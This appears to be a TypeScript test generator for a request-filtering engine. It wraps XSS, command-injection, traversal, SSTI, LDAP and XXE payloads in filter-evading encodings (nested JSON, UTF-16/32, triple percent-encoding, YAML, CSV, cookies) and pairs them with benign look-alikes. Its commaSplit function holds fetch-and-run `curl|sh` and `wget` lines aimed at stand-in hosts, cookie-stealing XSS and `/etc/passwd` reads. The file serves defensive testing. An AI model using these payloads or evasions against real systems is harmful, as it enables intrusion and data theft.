// Non-SQL attacks (zones.ts's category generators: xss, rce, lfi, rfi, ssrf, ssti, java, php, nodejs,
// ldap, nosql, xxe) hidden by an encoding or a carrier that the service behind us undoes before the
// application reads the value, written for this file (carriers.ts holds a few fixed payloads in the
// parser's own tricks, zones.ts ten encoders in 22 zones). Here: JSON with a random share of its
// characters (letters too) as \u escapes in the key and the value, astral characters as surrogate pairs
// in the keys and values beside the payload; JSON inside a JSON string (escaped once more) and inside a query value; GraphQL
// variables sent as a JSON string or as a nested input object; a base64 part wrapped at 76 columns, a
// quoted-printable part of lower-case escapes and soft breaks anywhere; a JSON body in UTF-16 or UTF-32
// with no byte order mark and no charset (Jackson and RFC 4627 detect it by its NULs); an XML document
// in big-endian UTF-16; triple percent-encoding, and a different level of escaping per byte, in the path
// and the query; three-byte overlong UTF-8 and percent-encoded full-width forms; `..;/` traversal and a
// payload in `;jsessionid=`; a payload split across repeated parameters where the `,` a server joins them
// with is harmless (ASP.NET's Request.Form, Express's `qs` arrays joined by the app); references without
// `;` in an attribute value that an XML or JSON carrier escapes once more; YAML double-quoted (`\x3c`,
// `\u003c`, `\U0000003c`), single-quoted and folded scalars; quoted CSV cells; base64url JSON in a cookie.
// And a second round: YAML literal block scalars (`key: |`, `|-`, `|+`, any indentation), plain and
// double-quoted scalars continued on deeper lines, a CI workflow's script (`run: |`) with the payload as one
// of its lines, an XML document in UTF-16 without a byte order mark, and quoted CSV cells whose separators
// and line breaks belong to the cell (`"a, b\nc"`, `""` inside).
// Every carrier carries honest values too (`encodedLookalike`), escaped as honest clients escape them.
import fc from "fast-check";
import type { Req } from "../engine.js";
import { rng, type R } from "./rng.js";
import { CATEGORIES } from "./zones.js";

export const ENC_CARRIERS = [
  "json-u-random", "json-astral", "json-in-json", "json-in-json-u", "json-in-query", "graphql-vars-string", "graphql-input-object",
  "mp-b64-wrapped", "mp-qp-lower", "json-utf16-nobom", "json-utf32-nobom", "xml-utf16be",
  "path-triple", "query-triple", "path-mixed-levels", "query-overlong3", "query-fullwidth", "path-dotsemi", "path-jsessionid",
  "hpp-join", "attr-nosemi-xml", "attr-nosemi-json",
  "yaml-dq-escapes", "yaml-sq", "yaml-folded", "csv-quoted", "cookie-b64url-json",
  "yaml-literal", "yaml-multiline", "yaml-ci-run", "xml-utf16-nobom", "csv-quoted-breaks",
] as const;
export type EncCarrier = (typeof ENC_CARRIERS)[number];

export const ENC_CATEGORIES = ["xss", "rce", "lfi", "rfi", "ssrf", "ssti", "java", "php", "nodejs", "ldap", "nosql", "xxe"] as const;
export type EncCategory = (typeof ENC_CATEGORIES)[number];

const host: [string, string] = ["host", "svc.local"];
const pick = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];
const hex = (n: number, w: number) => n.toString(16).padStart(w, "0");
const utf8 = (s: string) => [...Buffer.from(s, "utf8")];
const alnum = (c: string) => /^[A-Za-z0-9]$/.test(c);
const pct = (b: number) => "%" + hex(b, 2).toUpperCase();
/** Every byte but letters and digits percent-encoded (`levels` times). */
const pctAll = (s: string, levels = 1) => utf8(s).map((b) => (alnum(String.fromCharCode(b)) ? String.fromCharCode(b) : pct(b).replace(/%/, "%" + "25".repeat(levels - 1)))).join("");
/** What a query value must escape: controls, blanks, non-ASCII and its delimiters. */
const qEnc = (s: string) => utf8(s).map((b) => (b <= 0x20 || b >= 0x7f || "&=+#%;\"<>\\`".includes(String.fromCharCode(b)) ? pct(b) : String.fromCharCode(b))).join("");
const b64 = (s: string | Buffer) => Buffer.from(s).toString("base64");
/** A JSON string literal with a random share of its characters (letters included) as \uXXXX in random hex case. */
function jsonUAt(s: string, r: R, share: number): string {
  return '"' + [...s].map((c) => {
    const code = c.charCodeAt(0);
    if (r(100) < share || c === '"' || c === "\\" || code < 0x20) { const e = hex(code, 4); return "\\u" + (r(2) ? e.toUpperCase() : e); }
    return c;
  }).join("") + '"';
}
/** An astral character (emoji, CJK extension B) as a JSON surrogate pair. */
const astral = (r: R) => { const cp = pick(r, [0x1f600, 0x1f4a1, 0x20bb7, 0x1d11e]) - 0x10000; return `\\u${hex(0xd800 + (cp >> 10), 4)}\\u${hex(0xdc00 + (cp & 0x3ff), 4)}`; };
/** Big-endian UTF-16 (Node has only LE). */
const utf16be = (s: string) => { const le = Buffer.from(s, "utf16le"); for (let i = 0; i + 1 < le.length; i += 2) { const t = le[i]; le[i] = le[i + 1]; le[i + 1] = t; } return le; };
/** UTF-32 LE (the payloads are BMP text). */
const utf32le = (s: string) => { const out = Buffer.alloc(s.length * 4); [...s].forEach((c, i) => out.writeUInt32LE(c.charCodeAt(0), i * 4)); return out.subarray(0, [...s].length * 4); };
/** Quoted-printable with lower-case hex (decoders accept it) for every non-alphanumeric byte, a soft break at random points. */
function qpLower(s: string, r: R): string {
  let out = "";
  for (const b of utf8(s)) {
    out += alnum(String.fromCharCode(b)) ? String.fromCharCode(b) : "=" + hex(b, 2);
    if (r(6) === 0) out += "=\r\n";
  }
  return out;
}
/** MIME base64: 76 columns a line. */
const b64Wrapped = (s: string) => (b64(s).match(/.{1,76}/g) ?? []).join("\r\n");
/** Each non-alphanumeric byte escaped zero, one or two times over, at random (a server decoding until stable reads them all). */
const mixedLevels = (s: string, r: R) => utf8(s).map((b) => { const c = String.fromCharCode(b); const l = alnum(c) ? r(2) : 1 + r(2); return l === 0 ? c : pct(b).replace(/%/, "%" + "25".repeat(l - 1)); }).join("");
/** Non-alphanumeric ASCII as a three-byte overlong sequence (`.` is %E0%80%AE). */
const overlong3 = (s: string) => utf8(s).map((b) => (b < 0x80 && !alnum(String.fromCharCode(b)) ? pct(0xe0) + pct(0x80 | (b >> 6)) + pct(0x80 | (b & 0x3f)) : b < 0x80 ? String.fromCharCode(b) : pct(b))).join("");
/**
 * ASCII punctuation as its full-width form (NFKC folds it back), percent-encoded as UTF-8; the payload's own
 * `%` escapes stay as they are (a fold does not decode them).
 */
const fullwidthPct = (s: string) => pctAll([...s].map((c) => { const k = c.charCodeAt(0); return k > 0x20 && k < 0x7f && !alnum(c) && c !== "%" ? String.fromCharCode(k + 0xfee0) : c; }).join(""));
/** A YAML double-quoted scalar with some characters as `\x`, `\u` or `\U` escapes. */
function yamlDqAt(s: string, r: R): string {
  return '"' + [...s].map((c) => {
    const k = c.charCodeAt(0);
    if (c === '"' || c === "\\" || k < 0x20 || (!alnum(c) && c !== " " && r(2))) return k > 0xff ? `\\u${hex(k, 4)}` : pick(r, [`\\x${hex(k, 2)}`, `\\u${hex(k, 4)}`, `\\U${hex(k, 8)}`]);
    return c;
  }).join("") + '"';
}
/** Numeric references without `;` for the characters of attribute values and `<>` (HTML decodes them, where the next byte is no digit). */
function refsNoSemiAt(s: string, r: R): string {
  let out = "";
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    const next = s[i + 1] ?? "";
    if (!alnum(c) && c !== " " && r(3)) out += /[0-9a-fA-F]/.test(next) ? `&#${c.charCodeAt(0)};` : r(2) ? `&#${c.charCodeAt(0)}` : `&#x${hex(c.charCodeAt(0), 2)}`;
    else out += c;
  }
  return out;
}
const xmlEsc = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");

/**
 * Payloads in two or more pieces that read as the attack once a server joins them with `,` (the comma
 * lands in a JS comma expression, a shell brace expansion, a template tuple, an argument list or an LDAP
 * value), per category; `null` for the categories whose grammar has no such place.
 */
function commaSplit(cat: EncCategory, r: R): string[] | null {
  const n = 1 + r(99);
  const sink = pick(r, ["alert", "confirm", "prompt"]);
  switch (cat) {
    case "xss": return pick(r, [
      [`<script>/*`, `*/${sink}(${n})</script>`],
      [`<svg onload=x=${n}`, `${sink}(document.domain)>`],
      [`<img src=x onerror="a=${n}`, `${sink}(document.cookie)">`],
      [`"><script>x=${n}`, `fetch('//x${n}.example/?'+document.cookie)</script>`],
    ]);
    case "rce": return pick(r, [
      [";{cat", "/etc/passwd}"], ["|{curl", "-s", `http://203.0.113.${n}/s.sh}|sh`], ["$({wget", `http://x${n}.example/a}`, ")"], ["`{id", "}`"],
    ]);
    case "ssti": return pick(r, [
      ["{{x", "config.__class__.__init__.__globals__['os'].popen('id').read()}}"], ["{{a", "lipsum.__globals__.os.popen('id').read()}}"], ["${x", "T(java.lang.Runtime).getRuntime().exec('id')}"],
    ]);
    case "nodejs": return pick(r, [
      ["require('child_process').exec('id'", "()=>0)"], ["');x=1", "process.mainModule.require('child_process').execSync('id')//"],
    ]);
    case "ldap": return pick(r, [["admin)(|(uid=*", "x)"], ["*)(objectClass=*", "1"]]);
    default: return null;
  }
}

/** Whether the carrier holds the category's attack at all (a server undoes the carrier, and the payload still works). */
export function inScope(c: EncCarrier, cat: EncCategory): boolean {
  switch (c) {
    case "hpp-join": return ["xss", "rce", "ssti", "nodejs", "ldap"].includes(cat);
    // `..;/` is a traversal step only in a path that climbs
    case "path-dotsemi": return cat === "lfi";
    // references in an attribute value mean something only to a browser
    case "attr-nosemi-xml": case "attr-nosemi-json": return cat === "xss";
    // a path segment holds no `/`: a URL, a document or a file path is another segment's job
    case "path-jsessionid": return ["xss", "rce", "ssti", "java", "php", "nodejs", "ldap", "nosql"].includes(cat);
    // a script's line is a command, markup it prints, or an expression it evaluates; a path, a URL, a filter or
    // a document alone on a script's line is none of these
    case "yaml-ci-run": return ["xss", "rce", "ssti", "java", "php", "nodejs"].includes(cat);
    // a line break reads as a blank in markup and in expressions, not in a shell (it ends the command)
    case "csv-quoted-breaks": return cat !== "rce";
    default: return true;
  }
}

/** Go's encoding/json: `<`, `>` and `&` as \u escapes, what an honest client escapes beyond quotes and controls. */
const goJson = (s: string) => JSON.stringify(s).replace(/[<>&]/g, (c) => "\\u00" + hex(c.charCodeAt(0), 2));

/**
 * The request carrying `v` (of category `cat`) in carrier `c`. With `honest`, escapes are those an honest
 * client writes (JSON as Go escapes it, a YAML string as emitters write it, `&amp;` references), not a
 * random share of the characters: escaping letters is itself the sign of an evasion.
 */
export function encodedRequest(v: string, cat: EncCategory, c: EncCarrier, r: R, honest = false): Req {
  const jsonU = (s: string, r: R, share: number) => (honest ? goJson(s) : jsonUAt(s, r, share));
  const yamlDq = (s: string, r: R) => (honest ? JSON.stringify(s) : yamlDqAt(s, r));
  const refsNoSemi = (s: string, r: R) => (honest ? s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;") : refsNoSemiAt(s, r));
  // an include or a fetch is aimed at the parameter that takes a file or a URL
  const name = pick(r, cat === "rfi" || cat === "lfi" ? ["file", "page", "include", "template", "path"] : cat === "ssrf" ? ["url", "callback", "webhook", "image", "target"] : ["q", "note", "title", "filter", "comment", "name"]);
  const json = (body: string | Uint8Array, type: string | null = "application/json", path = "/api/v1/items"): Req => ({ method: "POST", path, headers: type === null ? [host] : [host, ["content-type", type]], body });
  const mp = (partHeaders: string, content: string): Req => ({ method: "POST", path: "/upload", headers: [host, ["content-type", "multipart/form-data; boundary=----b7"]], body: `------b7\r\nContent-Disposition: form-data; name="lang"\r\n\r\nen\r\n------b7\r\nContent-Disposition: form-data; name="${name}"\r\n${partHeaders}\r\n${content}\r\n------b7--\r\n` });
  switch (c) {
    case "json-u-random": return json(`{"lang":"en",${jsonU(name, r, 50)}:${jsonU(v, r, 20 + r(60))}}`);
    // astral characters beside the payload, in a key and the values around it (the payload stays whole)
    case "json-astral": return json(`{"${astral(r)}":"${astral(r)}","a${astral(r)}":["${astral(r)}x",${jsonU(v, r, 30)}],${jsonU(name, r, 0)}:${jsonU(v, r, 30)}}`);
    case "json-in-json": return json(JSON.stringify({ id: 1 + r(999), data: JSON.stringify({ lang: "en", [name]: v }) }));
    case "json-in-json-u": return json(JSON.stringify({ id: 1 + r(999), data: `{"lang":"en","${name}":${jsonU(v, r, 40)}}` }));
    case "json-in-query": return { method: "GET", path: `/api/v1/search?filter=${qEnc(`{"${name}":${jsonU(v, r, 30)},"limit":10}`)}&page=1`, headers: [host] };
    case "graphql-vars-string": return json(JSON.stringify({ query: `mutation Save($input: String!) { save(${name}: $input) { id } }`, variables: JSON.stringify({ input: v }) }), "application/json", "/graphql");
    case "graphql-input-object": return json(`{"query":"mutation($i: ItemInput!) { create(input: $i) { id } }","variables":{"i":{"meta":{"tags":["a"],${jsonU(name, r, 0)}:${jsonU(v, r, 30)}}}}}`, "application/json", "/graphql");
    case "mp-b64-wrapped": return mp(`${pick(r, ["Content-Transfer-Encoding", "content-transfer-encoding"])}: ${pick(r, ["base64", "BASE64", "Base64"])}\r\n`, b64Wrapped(v));
    case "mp-qp-lower": return mp(`Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n`, qpLower(v, r));
    case "json-utf16-nobom": return json(new Uint8Array(pick(r, [() => Buffer.from(`{"${name}":${JSON.stringify(v)}}`, "utf16le"), () => utf16be(`{"${name}":${JSON.stringify(v)}}`)])()), r(2) ? "application/json" : null);
    case "json-utf32-nobom": return json(new Uint8Array(utf32le(`{"${name}":${JSON.stringify(v)}}`)), "application/json");
    case "xml-utf16be": {
      // a document is its own carrier; any other value is an element's text
      const doc = cat === "xxe" ? v : `<?xml version="1.0" encoding="UTF-16"?><req><${name}>${xmlEsc(v)}</${name}></req>`;
      return { method: "POST", path: "/api/import", headers: [host, ["content-type", "application/xml"]], body: new Uint8Array(Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(doc)])) };
    }
    case "path-triple": return { method: "GET", path: `/files/${pctAll(v, 3)}`, headers: [host] };
    case "query-triple": return { method: "GET", path: `/app/view?${name}=${pctAll(v, 3)}&lang=en`, headers: [host] };
    case "path-mixed-levels": return { method: "GET", path: `/app/${mixedLevels(v, r)}`, headers: [host] };
    case "query-overlong3": return { method: "GET", path: `/app/view?lang=en&${name}=${overlong3(v)}`, headers: [host] };
    case "query-fullwidth": return { method: "GET", path: `/app/view?${name}=${fullwidthPct(v)}`, headers: [host] };
    case "path-dotsemi": return { method: "GET", path: `/app/static/${qEnc(v).replace(/\.\.(\/|\\|%2f|%5c)/gi, () => pick(r, ["..;/", "..;jsessionid=A1B2/", "..;x=1/"]))}`, headers: [host] };
    case "path-jsessionid": return { method: "GET", path: `/shop;jsessionid=${pctAll(v)}/cart`, headers: [host] };
    case "hpp-join": {
      const parts = commaSplit(cat, r) ?? [v];
      const q = parts.map((p) => `${name}=${qEnc(p)}`).join("&");
      return r(2) ? { method: "GET", path: `/app/view?${q}&lang=en`, headers: [host] } : { method: "POST", path: "/app/view", headers: [host, ["content-type", "application/x-www-form-urlencoded"]], body: `${q}&lang=en` };
    }
    case "attr-nosemi-xml": return { method: "POST", path: "/api/import", headers: [host, ["content-type", "application/xml"]], body: `<?xml version="1.0"?><page><block kind="html" ${name}="${xmlEsc(refsNoSemi(v, r))}"/></page>` };
    case "attr-nosemi-json": return json(JSON.stringify({ page: { blocks: [{ kind: "html", [name]: refsNoSemi(v, r) }] } }));
    case "yaml-dq-escapes": return json(`item:\n  lang: en\n  ${name}: ${yamlDq(v, r)}\n`, pick(r, ["application/yaml", "application/x-yaml", "application/yaml; charset=utf-8"]), "/api/v1/config");
    // (a line break folds to a blank in single quotes: a value that needs one is double-quoted, `\n`)
    case "yaml-sq": return json(`item:\n  lang: en\n  ${name}: ${/[\r\n]/.test(v) ? JSON.stringify(v) : `'${v.replace(/'/g, "''")}'`}\n`, "application/x-yaml", "/api/v1/config");
    case "yaml-folded": {
      // a folded scalar joins its lines with one blank and reads an empty line as a break: each of the payload's
      // lines is broken at one or two of its blanks, and an empty line keeps them apart
      const fold = (seg: string) => {
        const words = seg.split(" ");
        const cuts = new Set([1 + r(words.length), 1 + r(words.length)]);
        return words.reduce<string[]>((ls, w, k) => (k === 0 || cuts.has(k) ? [...ls, w] : [...ls.slice(0, -1), ls[ls.length - 1] + " " + w]), []);
      };
      return json(`item:\n  ${name}: >-\n${v.split(/\r?\n/).map((seg) => fold(seg).map((l) => "    " + l).join("\n")).join("\n\n")}\n  lang: en\n`, "application/yaml", "/api/v1/config");
    }
    case "yaml-literal": {
      // a literal block keeps its lines: the payload is the block's text (chomping and indentation at random)
      const ind = " ".repeat(2 + 2 * r(3));
      return json(`item:\n  lang: en\n  ${name}: |${pick(r, ["", "-", "+"])}\n${v.split("\n").map((l) => "  " + ind + l).join("\n")}\n  id: ${1 + r(99)}\n`, pick(r, ["application/yaml", "application/x-yaml"]), "/api/v1/config");
    }
    case "yaml-multiline": {
      // a plain scalar (or, where a plain one cannot hold the payload, a double-quoted one) broken over deeper lines at its blanks
      const plain = !/^[-?:,[\]{}#&*!|>'"%@`\s]|: | #|[\r\n\t]|\s$|:$/.test(v);
      const text = plain ? v : honest ? JSON.stringify(v) : yamlDqAt(v, r);
      const words = text.split(" ");
      const lines = words.reduce<string[]>((ls, w, k) => (k > 0 && r(3) === 0 ? [...ls, w] : [...ls.slice(0, -1), (ls.length ? ls[ls.length - 1] + " " : "") + w]), []);
      return json(`- lang: en\n  ${name}: ${lines.join("\n" + " ".repeat(4 + r(3)))}\n- id: ${1 + r(99)}\n`, "application/yaml", "/api/v1/config");
    }
    case "yaml-ci-run": {
      // a CI workflow's script, honest commands, one of them with the payload after its arguments (where a
      // template expression, `${{ inputs.x }}`, puts a value unquoted); an honest value is echoed in quotes
      const cmds = ["npm ci", "npm test", "make test", "go build ./...", "pytest -q", "cargo build --release", "./build.sh --target"];
      const line = honest ? `echo ${JSON.stringify(v)}` : `${pick(r, cmds)} ${v}`;
      const script = [pick(r, cmds), ...(r(2) ? [pick(r, cmds)] : []), ...line.split("\n"), ...(r(2) ? [pick(r, cmds)] : [])];
      return json(`name: ci\non: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: ${name}\n        run: |\n${script.map((l) => "          " + l).join("\n")}\n`, "application/yaml", "/api/v1/pipelines");
    }
    case "xml-utf16-nobom": {
      const doc = cat === "xxe" ? v : `<?xml version="1.0" encoding="UTF-16"?><req><${name}>${xmlEsc(v)}</${name}></req>`;
      return { method: "POST", path: "/api/import", headers: [host, ["content-type", "application/xml"]], body: new Uint8Array(r(2) ? Buffer.from(doc, "utf16le") : utf16be(doc)) };
    }
    // a quoted cell that runs over lines: the payload's blanks as line breaks where its grammar reads a break as a
    // blank, an honest value with a second line
    case "csv-quoted-breaks": {
      const cell = honest ? `${v}\n(2nd line)` : v.replace(/ /g, () => (r(3) ? " " : "\n"));
      return json(`id,${name},lang\n${1 + r(99)},"${cell.replace(/"/g, '""')}",en\n`, "text/csv", "/api/v1/import");
    }
    case "csv-quoted": return json(`id,${name},lang\r\n${1 + r(99)},"${v.replace(/"/g, '""')}",en\r\n`, "text/csv", "/api/v1/import");
    case "cookie-b64url-json": return { method: "GET", path: "/app/home", headers: [host, ["cookie", `sid=ab${r(9999)}; prefs=${Buffer.from(JSON.stringify({ theme: "dark", [name]: v })).toString("base64url")}`]] };
  }
}

/** Every in-scope (carrier, category) pair: the shapes of the family. */
export const SHAPES: Record<EncCarrier, EncCategory[]> = Object.fromEntries(ENC_CARRIERS.map((c) => [c, ENC_CATEGORIES.filter((cat) => inScope(c, cat))])) as Record<EncCarrier, EncCategory[]>;
const PAIRS = ENC_CARRIERS.flatMap((c) => SHAPES[c].map((cat, k) => ({ c, cat, k })));

export interface EncodedAttack { family: EncCarrier; k: number; category: EncCategory; value: string; req: Req }

/** An attack of a random in-scope (carrier, category) pair. */
export const encodedAttack: fc.Arbitrary<EncodedAttack> = fc.constantFrom(...PAIRS).chain(({ c, cat, k }) =>
  fc.tuple(CATEGORIES[cat], fc.nat()).map(([value, seed]) => ({ family: c, k, category: cat, value, req: encodedRequest(value, cat, c, rng(seed)) })));

/**
 * Benign values with the same punctuation: markup that runs nothing, paths, URLs, templates and code in
 * prose, filter expressions; and split pairs that a `,` joins into lists.
 */
export const BENIGN = [
  "<b>bold</b> and <i>italic</i> text", "Use {{name}} or ${user} in the subject line", "price < 10 and > 5 (incl. VAT)",
  "docs/guide/chapter-3.md", "https://cdn.example.com/lib/app.js?v=2#main", "C:\\Users\\anna\\Documents\\notes.txt", "rock | pop | jazz; 3 genres",
  "(cn=John Smith) or (mail=j@example.com)", "x = y * 2; // scale", "<p style=\"color:red\">Sale!</p>", "O'Reilly & Sons, est. 1998",
  "email me: a.b@example.org", "tar -czf backup.tgz ./data (weekly)", "ratio 3/4 ~ 75%", "if (a && b) { return 1; }", "[1, 2, 3].map(x => x * 2)",
];
const BENIGN_SPLITS = [["red", "green", "blue"], ["<b>a", "b</b>"], ["{x", "y}"], ["1", "2", "3"], ["(a", "b)"], ["cat", "dog"]];

/** A benign value (and the split pairs) in every carrier. */
export const encodedLookalike: fc.Arbitrary<{ carrier: EncCarrier; req: Req }> = fc.tuple(fc.constantFrom(...ENC_CARRIERS), fc.constantFrom(...BENIGN), fc.nat()).map(([c, v, seed]) => {
  const r = rng(seed);
  if (c === "hpp-join") {
    const parts = pick(r, BENIGN_SPLITS);
    return { carrier: c, req: { method: "GET", path: `/app/view?${parts.map((p) => `tag=${qEnc(p)}`).join("&")}`, headers: [host] } };
  }
  // (a path's look-alike is a file name: a URL in a path segment is no honest link)
  return { carrier: c, req: encodedRequest(c.startsWith("path-") && v.includes("://") ? "docs/guide/chapter-3.md" : v, "xss", c, r, true) };
});
